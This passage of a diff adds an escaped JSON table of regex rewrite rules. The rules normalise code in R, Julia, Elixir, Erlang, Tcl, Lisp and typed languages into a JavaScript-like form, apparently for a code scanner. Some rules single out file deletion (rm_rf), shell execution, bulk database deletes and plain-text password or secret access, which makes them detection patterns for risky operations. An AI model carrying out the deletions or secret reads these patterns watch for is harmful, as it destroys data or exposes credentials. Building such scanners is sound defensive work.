+^{};=]*)\\\\}","$1[$2]"],["(=\\\\s*|\\\\(\\\\s*|\\\\breturn\\\\s+)\\\\{((?:[^{};=]|\\\\[[^\\\\]]*\\\\])*)\\\\}","$1[$2]"],["\\\\bfor\\\\s+(?:\\\\w+\\\\s*,\\\\s*)?(\\\\w+)\\\\s+in\\\\s+","for $1 of "\
+],["\\\\bfunction\\\\b\\\\s*((?:\\\\w+\\\\.)*\\\\w+)?\\\\s*(\\\\([^()]*\\\\))","function $1$2 {"],["function (?:\\\\w+\\\\.)+","function "],["\\\\b(?:then|do|repeat)\\\\b","{"],["\\\\belse\
+if\\\\b","} else if"],["\\\\belse\\\\b","} else {"],["\\\\b(?:end|until)\\\\b","}"]]},"r":{"comment":"#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\
+\\\\\\[\\\\s\\\\S])*)'","rewrites":[["\\\\b(?:library|require|suppressPackageStartupMessages)\\\\([^()]*\\\\);?",""],["\\\\brm\\\\s*\\\\(","forget("],["\\\\b(?:base|fs|httr2?|DBI|ut\
+ils|tools|purrr|paws|yaml|jsonlite|readr)::",""],["(?<=[\\\\w)\\\\]])\\\\$(?=[A-Za-z_.])","."],["\\\\bunlink\\\\b","rm_rf"],["\\\\bfile\\\\.exists\\\\b|\\\\bdir\\\\.exists\\\\b","isD\
+irectory"],["<<?-","="],["(?:\\\\|>|%>%)\\\\s*([\\\\w.]+)\\\\s*\\\\(",".$1("],["\\\\blist\\\\(\\\\s*\\\\w+\\\\s*=\\\\s*","list("],["([(,]\\\\s*)([\\\\w.]+)\\\\s*=(?!=)","$1$2: "],["(?<![\\\\\
+w.])([\\\\w.]{1,60}) {0,4}= {0,4}function\\\\s*\\\\(","function $1("],["(?:\\\\bfunction|\\\\\\\\)\\\\s*(\\\\([^()]*\\\\))\\\\s*(?!\\\\{)","$1 => "],["\\\\bfor\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+in\\\\\
+s","for ($1 of "],["\\\\bfile\\\\.path\\\\b","join_path"],["\\\\bjoin_path\\\\(([^(),]*(?:\\\\([^()]*\\\\))?),\\\\s*(c\\\\([^()]*\\\\))\\\\)","$2.map((it) => join_path($1, it))"],["\\\
+\\bpaste0\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["\\\\bpaste\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + \\" \\" + $2)"]]},"julia":{"comment":"#=[\\\\s\\\\S]*?=#|#[^\\\\n]*"\
+,"texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b(?:raw|sql))?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\`([^\`]*)\`|(?<![\\\\w)\\\\]])'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\(?([\\\\w\
+.]+(?:\\\\([^()]*\\\\))?)\\\\)?","rewrites":[["^[ \\\\t]*(?:using|import)\\\\b[^\\\\n;]*",""],["(\\\\w)!(?=\\\\()","$1"],["\\\\bforeach\\\\(","map("],["\\\\b(\\\\w+)\\\\.\\\\(([^(),]*(?:\\\\\
+(\\\\))?),\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\])\\\\)","$3.map((it) => $1($2, it))"],["\\\\.\\\\(","("],["\\\\b(?:Base|Base\\\\.Filesystem|FilePathsBase)\\\\.(?=\\\\w)",""],["\\\\bmktempdir\\\\(\\\\\
+s*\\\\)\\\\s+do\\\\s+(\\\\w+)","$1 = mktempdir();"],[";\\\\s*(?=(?:recursive|force|join|dir|onerror)\\\\s*=)",", "],["([(,]\\\\s*)(\\\\w+)\\\\s*=(?!=)","$1$2: "],["\\\\|>\\\\s*([\\\\w.\
+]+)",".$1()"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2 + $3)"],["\\\\bstring\\\\(([^(),]*),\\\\s*([^(),]*)\\\\)","($1 + $2)"],["(\\"\\\\d+\\")\\\\s*\\\
+\\*\\\\s*(?=[\\\\w\\"])","$1 + "],["([\\\\w)])\\\\s\\\\*\\\\s(?=\\")","$1 + "],["(?:\\\\((\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)|\\\\b(\\\\w+))\\\\s*->\\\\s*","($1$2) => "],["\\\\bfor\\\\s+\\\\(?(\\\\w+)(?\
+:\\\\s*,\\\\s*\\\\w+)*\\\\)?\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*),\\\\s*(\\\\w+)\\\\s+(?:in|\\u2208)\\\\s+\\\\w+","for ($1 of $2)\
+ $3 = $1;"],["\\\\bfor\\\\s+(?:\\\\(\\\\w+\\\\s*,[^()]*,\\\\s*(\\\\w+)\\\\)|(\\\\w+))\\\\s+(?:in|=|\\u2208)\\\\s+([^\\\\n;,()]*(?:\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))?[^\\\\n;,()]*)","for\
+ ($1$2 of $3);"],["^([ \\\\t]*)([\\\\w.]+)(\\\\([^()=]*\\\\))\\\\s*=(?!=)\\\\s*([^\\\\n]*)","$1function $2$3 { $4 }"],["\\\\bfunction\\\\s+(\\\\w+\\\\s*\\\\([^()]*\\\\))","function $1 {"\
+],["^end\\\\b","}"]]},"elixir":{"comment":"#[^\\\\n{][^\\\\n]*|\\"(?:doc|cover)\\"","texts":"(?:~[sS])?\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|~[sS]?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\.)*)\\"|\\"((?:[\
+^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'|~[sS]\\\\(([^()]*)\\\\)|(?<=~w)[(\\\\[{|/\\"]([^)\\\\]}|/\\"]*)[)\\\\]}|/\\"]a?","inserts":"#\\\\{([^{}]*)\\\\}","rewrites":[[\
+"\\\\{:ok, ?(\\\\w+)\\\\} ?=(?!=)","$1 ="],["~w(\\"\\\\d+\\")","words($1)"],["\\\\bdelete_all\\\\b(?:(?<=\\\\bwhere\\\\b[^\\\\n;]{0,999})|(?=[^\\\\n;]{0,999}\\\\bwhere\\\\b))","delete_so\
+me"],["^[ \\\\t]*(?:alias|import|use|require)\\\\b[^\\\\n;]*",""],["(\\\\w)[!?](?=[\\\\s(/)])","$1"],["<>","+"],["&([\\\\w.:]+)/1","(it) => $1(it)"],["&([\\\\w.:]+)/\\\\d","$1"\
+],["&\\\\(([^()&]*(?:\\\\([^()]*\\\\))?)&1([^()]*)\\\\)","(it) => ($1it$2)"],["&([\\\\w.:]+\\\\([^()&]*)&1([^()]*\\\\))","(it) => $1it$2"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->\
+\\\\s*([^\\\\n]{0,300}?)\\\\bend\\\\b","($1) => { $2 }"],["\\\\bfn\\\\s+\\\\(?([\\\\w, ]*)\\\\)?\\\\s*->","($1) =>"],["\\\\bEnum\\\\.each\\\\(([^()]*(?:\\\\([^()]*\\\\))?),\\\\s*","$1.forEach(\
+"],["\\\\|>\\\\s*:?(?:Enum|Stream)\\\\.each\\\\b",".forEach"],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)\\\\(",".$1("],["\\\\|>\\\\s*:?(?:\\\\w+\\\\.)*(\\\\w+)",".$1()"],["(?<!\\\\w):(?=[a-z]\\\\w\
+*\\\\.\\\\w)",""],["\\\\bfor\\\\s+(\\\\w+)\\\\s*<-\\\\s*(.*?)\\\\s*(?:,\\\\s*do:|\\\\bdo$)","for ($1 of $2);"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1() { $2 }"\
+],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s*(\\\\([^()]*\\\\))\\\\s*,\\\\s*do:\\\\s*([^\\\\n]*)","function $1$2 { $3 }"],["\\\\bdefp?\\\\s+(\\\\w+)\\\\s+do\\\\b","function $1() {"],["\\\\bdefp?\\\\s+(\\\\w+\
+)\\\\s*(\\\\([^()]*\\\\))\\\\s*do\\\\b","function $1$2 {"],["^ {0,2}end\\\\b","}"],["\\\\{(\\\\w+),\\\\s*\\\\w+\\\\}\\\\s*=","$1 ="]]},"erlang":{"comment":"%[^\\\\n]*|^#![^\\\\n]*","texts"\
+:"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\]|\\\\\\\\.)*)'","rewrites":[["\\\\b([a-z]\\\\w*):([a-z]\\\\w*)\\\\(","$1.$2("],["\\\\brpc\\\\.call\\\\([^,]*,\\\\s*(\\\\w+)\\\\s*,\\\\s*(\
+\\\\w+)\\\\s*,\\\\s*\\\\[","$1.$2(["],["\\\\bhttpc\\\\.request\\\\(\\\\s*(\\\\w+)\\\\s*,\\\\s*\\\\{","httpc_$1("],["\\\\[((?:[^\\\\[\\\\]|]|\\\\[[^\\\\[\\\\]]*\\\\])*)\\\\|\\\\|\\\\s*(\\\\w+)\\\\s*<-\\\\s*(\\\\[[\
+^\\\\[\\\\]]*\\\\]|[^\\\\[\\\\],]+)\\\\]","; for ($2 of $3); $1;"],["\\\\bfun\\\\s*\\\\(([^()]*)\\\\)\\\\s*->\\\\s*((?:[^,()\\\\n]|\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\)[^()\\\\n]*){0,4}\\\\)){1,300\
+}?)\\\\bend\\\\b","($1) => $2"],["\\\\+\\\\+","+"],["(?:\\\\{\\\\w{1,40},[ \\\\t]*){1,4}\\\\{?(?:_\\\\w{0,40},[ \\\\t]*){0,4}(\\\\w+)\\\\}{1,4}\\\\s*=","$1 ="]]},"named":{"comment":"//[^\
+\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[fsru]{1,2})?#*\\"((?:[^\\"\\\\\\\\\\\
+\\n]|\\\\\\\\\\\\([^()\\\\n]*(?:\\\\([^()\\\\n]*\\\\))?\\\\)|\\\\\\\\[\\\\s\\\\S])*)\\"#*|(?<![&<\\\\w] ?)'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'|\`([^\`]*)\`","inserts":"(?:\\\\$\\\\{?|\\\\\\\\\\\\(|\\\\{(?=\\\\w+\\\\})\
+)([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)[})]?","rewrites":[["(\\"\\\\d+\\"|\\\\b(?:Seq|Process|List)\\\\([^()]*\\\\))\\\\s*\\\\.?\\\\s*!{1,2}(?![=\\\\w(\\\\[])","$1.execute()"],["^[ \\\\\
+t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;|$)",""\
+],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;)\\\\]])"\
+,""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1"],["\\\\\
+bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?:for_ea\
+ch|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\\.(?:pa\
+th|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filterNot|fi\
+lterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"],["(?<!\
+[\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|absolute)\\\
+\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\)|insta\
+nceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push|append\
+)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\.(map|forEach|filter)\\\\((\\\\w[\\\\w.]*)\\\\(_\\\\)\\\\)",\
+".$1((it) => $2(it))"],["\\\\bfor\\\\s+_\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*,\\\\s*(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+([^{\\\\n]*(?:\\\\{[^{}]\
+*\\\\}+)?)\\\\s*\\\\{","for $1 of $3 { $2 = $1;"],["\\\\bfor\\\\s+(\\\\w+)\\\\s*:?=\\\\s*range\\\\s+","for $1 of "],["\\\\[(?:\\\\d+|\\\\.\\\\.\\\\.)?\\\\](?:\\\\*?[\\\\w.]+|\\\\[\\\\][\\\\w.]+)\\\\{([^\
+{}]*)\\\\}","[$1]"],["\\\\bfor\\\\s*[({]?\\\\s*(\\\\w+)\\\\s*<-\\\\s*","for $1 of "],["\\\\b(?:fun|func|fn|def)\\\\s+(?:<[^<>]*>\\\\s*)?(?:\\\\([^()]*\\\\)\\\\s*)?(?:[\\\\w<>]+\\\\.)*(\\\\w+)(\
+?:<[^<>()]*>|\\\\[[^\\\\[\\\\]()]*\\\\])?\\\\s*\\\\(","function $1("],["\\\\bfunc\\\\s*\\\\(","function("],["&?\\\\b\\\\w+\\\\.[A-Z]\\\\w*\\\\{(?=\\\\s*[A-Z]\\\\w*\\\\s*:)","{"],["(function \\\\w+\
+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*\\\\{","$1 {"],["(function \\\\w+\\\\([^()]*(?:\\\\([^()]*\\\\))?[^()]*\\\\))[^={\\\\n]*=\\\\s*(?=[^\\\\s{>=])([^\\\\n]*)","$1 { r\
+eturn $2 }"],["\\\\b(?:val|mut|lazy|defer|go|await|unsafe|private|public|internal|override|static|inline|suspend|open|try)\\\\b[?!]?\\\\s+(?=[\\\\w\\"\\\\[(&*])",""],["^([\
+ \\\\t]*(?:if\\\\s+|var\\\\s+)?)(\\\\w+)[ \\\\t]*,[ \\\\t]*\\\\w+[ \\\\t]*(:?=)(?!=)","$1$2 $3"],["([(,=]\\\\s*(?:move\\\\s+)?)\\\\|([^|\\\\n]*)\\\\|\\\\s*(?:->\\\\s*[^{\\\\n]*)?","$1($2) => "\
+],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|","$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|\
+else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<\
+!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^(\
+)\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\\
+S])","$&\\nmain()"],["\\\\$0","it"],["\\\\(([^()\\\\n]*?)(?<![\\\\w.])_(?=\\\\s*[./)]|\\\\s*\\\\.\\\\w)","((it) => $1it"],["(\\"\\\\d+\\"|\\\\w|\\\\))\\\\s+\\\\.\\\\/\\\\s+","$1 / "]]},"typed":\
+{"comment":"//[^\\\\n]*|/\\\\*[\\\\s\\\\S]*?\\\\*/|^[ \\\\t]*#(?!define\\\\b)[^\\\\n]*|^[ \\\\t]*@\\\\w+(?:\\\\([^()\\\\n]*\\\\))?","texts":"\\"\\"\\"([\\\\s\\\\S]*?)\\"\\"\\"|(?:\\\\b[rLu]{1,2})?\\"\
+((?:[^\\"\\\\\\\\\\\\n]|\\\\\\\\[\\\\s\\\\S])*)\\"|'((?:[^'\\\\\\\\\\\\n]|\\\\\\\\.)*)'","inserts":"\\\\$\\\\{?([A-Za-z_][\\\\w.]*(?:\\\\([^()]*\\\\))?)\\\\}?","rewrites":[["^(?:script )?eval ",""],\
+["^[ \\\\t]*(?:import|use|using|package|library|part)\\\\s*\\\\([^()]*\\\\)",""],["(?<=^|;)[ \\\\t]*(?:pub\\\\s+)?(?:import|use|using|package|library|part)\\\\s+[^\\\\n;(]*(?:;\
+|$)",""],["^[ \\\\t]*#define\\\\s+(\\\\w+)[ \\\\t]+","$1 = "],["::<[^<>()]*>",""],["::","."],["\\\\?(?=\\\\s*[;.,){\\\\n])|!!(?=[.,)])|\\\\?(?=\\\\.\\\\w)|(?<=[\\\\w)\\\\]])!(?=[\\\\s.,;\
+)\\\\]])",""],["->d_name\\\\b",""],["\\\\breaddir\\\\((\\\\w+)\\\\)","any_of(readdir($1))"],["\\\\.(?:file|directory)(?=\\\\s*[)&|])",".isFile"],["\\\\b(\\\\w+)!\\\\s*(?=[(\\\\[])","$1\
+"],["\\\\bvec\\\\[","["],["\\\\b(?:System|env|Deno)\\\\.(?:getProperty|getenv|var|var_os)\\\\(\\"\\\\d+\\"\\\\)\\\\.(?:unwrap|expect|unwrap_or_default)\\\\([^()]*\\\\)","$&"],["\\\\.(?\
+:for_each|try_for_each|foreach|forEachOrdered|each|forEachIndexed)\\\\b",".forEach"],["\\\\b(?:let|var|val)\\\\s+(?:mut\\\\s+)?(?=\\\\w+\\\\s*(?::[^=\\\\n]*)?=(?!=))",""],["\\\
+\\.(?:path|name|Name|getName|file_name|filename)\\\\(\\\\)",""],["\\\\.(?:(?:password|secret|apiToken)\\\\.)?plainText\\\\b",".getPlainText()"],["\\\\.(?:where|findAll|filte\
+rNot|filterNotNull|takeWhile|withFilter)\\\\b",".filter"],["\\\\.(?:collect|mapNotNull|flatMap|filter_map|compactMap)(?=\\\\s*(?:\\\\(?\\\\s*\\\\{|\\\\(\\\\s*[|(\\\\w]))",".map"]\
+,["(?<![\\\\w.])(?:\\\\w{1,40}\\\\.){0,6}(?:Uri|URI|URL|Url)\\\\.(?:unsafeParse|parse|apply|create|new)\\\\(","URI("],["\\\\.(?:absolutePath|canonicalPath|fullPath|path|abs\
+olute)\\\\b(?!\\\\s*\\\\()",""],["\\\\bRuntime\\\\.(?:getRuntime\\\\(\\\\)|runtime)","Runtime"],["(?:Jenkins|hudson\\\\.model\\\\.Hudson)\\\\.(?:instance|get\\\\(\\\\)|getInstance\\\\(\\\\\
+)|instanceOrNull)\\\\.(?:getA|a)?(?:llItems|items|getItems)\\\\b(?:\\\\([^()]*\\\\))?","jenkinsItems()"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\.(args?|addAll|add|push\
+|append)\\\\(","$1 = $1.$2("],["\\\\.([A-Z]\\\\w+)\\\\((?:\\"\\\\d+\\"|\\\\w*)\\\\)\\\\.(Delete|DeleteCollection)\\\\(",".$1.Delete("],["\\\\bnew\\\\s+[\\\\w.]+\\\\[\\\\w*\\\\]\\\\s*\\\\{([^{}]*)\\\
+\\}","[$1]"],["\\\\bnew\\\\s+(?=[A-Z])",""],["\\\\bprintln?[ \\\\t]+(?=[\\\\w\\"])",""],["\\\\.(?:eachFileRecurse|eachDirRecurse|traverse)\\\\b(?:\\\\(\\\\w*\\\\))?(?=\\\\s*\\\\{)",".wal\
+k().forEach"],["\\\\.(?:eachFile|eachDir)\\\\b(?:\\\\(\\\\))?(?=\\\\s*\\\\{)",".listFiles().forEach"],["\\\\bfor\\\\s*\\\\(\\\\s*(?:[\\\\w.\\\\[\\\\]<>]+[\\\\s&*]+)*(\\\\w+)\\\\s*:(?!:)\\\\s*","\
+for ($1 of "],["(\\\\w|\\\\))\\\\.text\\\\s*=(?!=)\\\\s*([^\\\\n;}]+)","$1.writeText($2)"],["(File\\\\([^()]*\\\\))\\\\s*<<\\\\s*(\\"\\\\d+\\")","$1.appendText($2)"],["\\\\b(?:final|stat\
+ic|public|private|protected|const|constexpr|auto|late|synchronized|extern|inline|volatile|unsigned|try)\\\\b\\\\s*(?=[\\\\w\\"\\\\[(&*])",""],["\\\\bstruct\\\\s+(?=\\\\w+\\\\s*[\
+*\\\\w])",""],["<(?:[\\\\w.?, \\\\[\\\\]]|<[\\\\w.?, ]*>)*>(?=\\\\s*[\\\\w(\\\\[])",""],["\\\\bdef\\\\s+(\\\\w+)\\\\s*\\\\(","function $1("],["(^[ \\\\t]*|[;}{][ \\\\t]*)(?!(?:else|return|ne\
+w|throw|function|case|await|yield|in|of|do)\\\\b)[A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*[\\\\s*&?]+(?!(?:if|for|while|switch|catch)\\\\b)(\\\\w+)\\\\s*\\\\(([^()]*)\\\\)\\\\s*(?:throws\\\\s+\
+[\\\\w., ]+|async\\\\s*)?\\\\{","$1function $2($3) {"],["(?<![\\\\w.])(?!(?:else|return|new|throw|function|case|await|yield|in|of|assert|println|print|not|let|var)\\\\b)[\
+A-Za-z_][\\\\w.]*(?:\\\\[\\\\])*(?:\\\\s*[*&?]+\\\\s*|\\\\s+)(?!(?:in|of|instanceof|is|as)\\\\b)(\\\\w+)(?:\\\\[\\\\w*\\\\])*(?=\\\\s*(?:[,);]|=(?!=)))","$1"],["(=\\\\s*|[(,]\\\\s*)\\\\{([^{\
+};:]*)\\\\}","$1[$2]"],["\\\\bfor\\\\s*\\\\(\\\\s*[\\\\w.]+\\\\s+(\\\\w+)\\\\s+in\\\\s+","for ($1 of "],["\\\\b(?:snprintf|sprintf_s)\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,[^,]*,","$1 = sprintf("],["\
+\\\\bsprintf\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,(?=\\\\s*\\")","$1 = sprintf("],["\\\\bstrn?cpy\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 = std.string("],["\\\\bstrn?cat\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s*,","$1 +\
+= std.string("],["\\\\s->\\\\s*(?=\\\\w|\\\\{|\\\\()"," => "],["\\\\{\\\\s*\\\\(?(\\\\w+(?:\\\\s*,\\\\s*\\\\w+)*)\\\\)?\\\\s*(?:->|=>|\\\\bin\\\\b)(?=\\\\s)","{|$1|"],["(\\\\.\\\\w+)\\\\s*\\\\{\\\\s*\\\\|",\
+"$1() {|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|interface|enum|object)\\\\b[^\\\\n]{0,300\
+})(\\\\.\\\\w+)\\\\s+\\\\{(?!\\\\s*\\\\|)","$1() {|it|"],["(?<!^[ \\\\t]*(?:\\\\}[ \\\\t]*)?(?:for|if|else|while|switch|match|guard|catch|function|class|extension|struct|impl|int\
+erface|enum|object)\\\\b[^\\\\n]{0,300})(\\\\.\\\\w+\\\\([^()\\\\n]*\\\\))\\\\s*\\\\{(?!\\\\s*\\\\|)(?=[^{}]*(?:\\\\bit|\\\\$0)\\\\b)","$1 {|it|"],["\\\\.filter\\\\(\\\\)\\\\s*\\\\{\\\\|(\\\\w+)\\\\|([^{}\
+]*)\\\\}",".filter(($1) => $2)"],["[\\\\s\\\\S](?![\\\\s\\\\S])","$&\\nmain()"],["\\\\$0","it"]]},"tcl":{"comment":"(?:^|;)[ \\\\t]*#[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\
+\\\\S])*)\\"|\\\\[list\\\\s+([^\\\\[\\\\]$\\"{}]*)\\\\]|(?<=\\\\b(?:set|foreach) {1,4}\\\\w{1,40} {1,4})\\\\{([^{}$\\\\[\\\\];]*)\\\\}|(?<=\\\\bset {1,4}\\\\w{1,40} {1,4})([\\\\w.~/-]+)|(?<=\\\\\
+b(?:exec|spawn) {1,4}(?:--?\\\\w{1,20} {1,4}){0,3})([^\\\\s\\\\[-][^\\\\n;\\\\]}]*)|(?<=(?:\\\\bfile {1,4}(?:delete|join|normalize|mkdir)|\\\\bglob|\\\\bopen)\\\\b[^\\\\n;\\\\]}\\\\[]{\
+0,300} )(?!-)([$*~/.\\\\w][\\\\w./~*$-]*)","inserts":"\\\\$\\\\{?(?:::)?([A-Za-z_]\\\\w*)\\\\}?","rewrites":[["\\\\$\\\\{?(?:::)?(\\\\w+)\\\\}?","$1"],["\\\\b(?:exec|spawn)\\\\s+(?:--?\
+\\\\w+\\\\s+)*(\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)|\\"\\\\d+\\")","system($1)"],["\\\\[\\\\s*file\\\\s+(?:join|normalize)\\\\s+(\\\\S+)\\\\s+(\\\\S+?)\\\\s*\\\\]","join_path($1, $2)"],["\\\\[\\\\s\
+*glob\\\\s+(?:-nocomplain\\\\s+|-types?\\\\s+\\\\S+\\\\s+|--\\\\s+)*-dir(?:ectory)?\\\\s+(\\\\S+)\\\\s+(?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob(join_path($1, $2))"],["\\\\[\\\\s*glob\\\\s+(\
+?:-\\\\w+\\\\s+)*(\\\\S+?)\\\\s*\\\\]","glob($1)"],["\\\\bfile\\\\s+tempfile\\\\s+(\\\\w+)(?:\\\\s+\\\\w+)?","$1 = mktemp()"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*\\\\{\\\\*\\\\}([\
+^\\\\n;\\\\]}]+)",";rm_rf(words($1))"],["\\\\bfile\\\\s+delete\\\\s+(?:-force\\\\s+|--\\\\s+)*([^\\\\n;\\\\]}]+)",";rm_rf($1)"],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()\
+]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["\\\\[\\\\s*open\\\\s+(\\\\\
+S+?)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s*\\\\]","open($1, \\"$2\\")"],["\\\\bforeach\\\\s+(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\\\\{","for ($1 of words($2)) {\
+"],["\\\\bproc\\\\s+(\\\\w+)\\\\s+\\\\{(\\\\w*)\\\\}\\\\s*\\\\{","function $1($2) {"],["\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\
+\\s+(\\"\\\\d+\\"|\\\\w+)\\\\s*(?=$|[;}])","$1($2)"],["[\\\\[\\\\]]"," "]]},"lisp":{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\?\\\\\\\\?.","rewrit\
+es":[["(?<=[\\\\w\\"])[-\\\\/](?=\\\\w)","_"],["\\\\b[a-z_]\\\\w*:{1,2}(?=\\\\w)",""],["\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\[?)\\\\s+\\\\(*\\\\s*(\\\\w+)\\\\s+(?:in\\\\s+)?","; fo\
